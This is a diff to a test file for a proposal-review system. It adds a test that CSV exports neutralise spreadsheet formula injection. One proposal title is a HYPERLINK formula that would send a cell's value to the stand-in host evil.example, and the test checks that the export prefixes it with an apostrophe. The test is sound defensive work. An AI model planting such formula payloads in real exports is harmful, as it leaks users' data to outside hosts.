@@ -77,6 +77,9 @@ function lowProposal(title: string, totalCost: number): ProposalData {
 }
 
 const TRICKY_TITLE = 'Clinic "Norte", phase 2\nonline booking';
+/** A title that would run as a formula in finance's spreadsheet (CSV injection). */
+const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Clinic kiosks")';
+const FORMULA_COMMENT = '-No risk assessment, no controls plan';
 
 describe('finance and oversight: outcomes, CSV exports and the portfolio', () => {
   let stack: TestStack;
@@ -87,7 +90,7 @@ describe('finance and oversight: outcomes, CSV exports and the portfolio', () =>
   const data: Record<keyof typeof ids, ProposalData> = {
     approved: lowProposal(TRICKY_TITLE, 25_000_000),
     rejected: lowProposal('Records archive for clinics', 30_000_000),
-    withdrawn: lowProposal('Clinic kiosks', 12_000_000),
+    withdrawn: lowProposal(FORMULA_TITLE, 12_000_000),
     mineduc: lowProposal('School library catalogue', 8_000_000),
   };
   let technicalCodes: string[];
@@ -125,7 +128,7 @@ describe('finance and oversight: outcomes, CSV exports and the portfolio', () =>
     // A mandatory standard NOT_MET allows only an unfavourable technical opinion; the head rejects.
     ids.rejected = await submit(u.ana, data.rejected);
     const technical = meetsAll('TECHNICAL_REVIEW', data.rejected, 'LOW', 'UNFAVOURABLE', { comment: 'No security risk assessment' });
-    technical.verdicts = technical.verdicts.map((v) => (v.standardCode === 'SEC-01' ? { ...v, verdict: 'NOT_MET', comment: 'No risk assessment, no controls plan' } : v));
+    technical.verdicts = technical.verdicts.map((v) => (v.standardCode === 'SEC-01' ? { ...v, verdict: 'NOT_MET', comment: FORMULA_COMMENT } : v));
     await decide(u.carla, ids.rejected, 'TECHNICAL_REVIEW', technical);
     await decide(u.elena, ids.rejected, 'COST_EFFICIENCY_REVIEW', meetsAll('COST_EFFICIENCY_REVIEW', data.rejected, 'LOW'));
     await decide(u.gabriela, ids.rejected, 'APPROVAL', { decision: 'REJECT', comment: 'Security is not addressed' });
@@ -261,6 +264,9 @@ describe('finance and oversight: outcomes, CSV exports and the portfolio', () =>
         catalogueVersion: '2026.1',
       });
       expect(rows[1]).toMatchObject({ title: 'Records archive for clinics', outcome: 'REJECTED', approvedAmount: '', conditionCount: '0', conditions: '' });
+      // A title starting with = reaches the spreadsheet as text, never as a live formula.
+      expect(rows[3]).toMatchObject({ title: `'${FORMULA_TITLE}`, outcome: 'WITHDRAWN' });
+      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Clinic kiosks"")"`);
       const json = (await u.elena.get('/outcomes')).body.items as { decidedAt: string; cycleDays: number }[];
       expect(rows.map((r) => r.decidedAt)).toEqual(json.map((i) => i.decidedAt));
       expect(rows.map((r) => Number(r.cycleDays))).toEqual(json.map((i) => i.cycleDays));
@@ -301,7 +307,7 @@ describe('finance and oversight: outcomes, CSV exports and the portfolio', () =>
           reviewType: 'TECHNICAL_REVIEW',
           standardCode: 'SEC-01',
           verdict: 'NOT_MET',
-          comment: 'No risk assessment, no controls plan',
+          comment: `'${FORMULA_COMMENT}`,
           decidedBy: 'carla.rojas@digital.example',
           decidedAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
         },
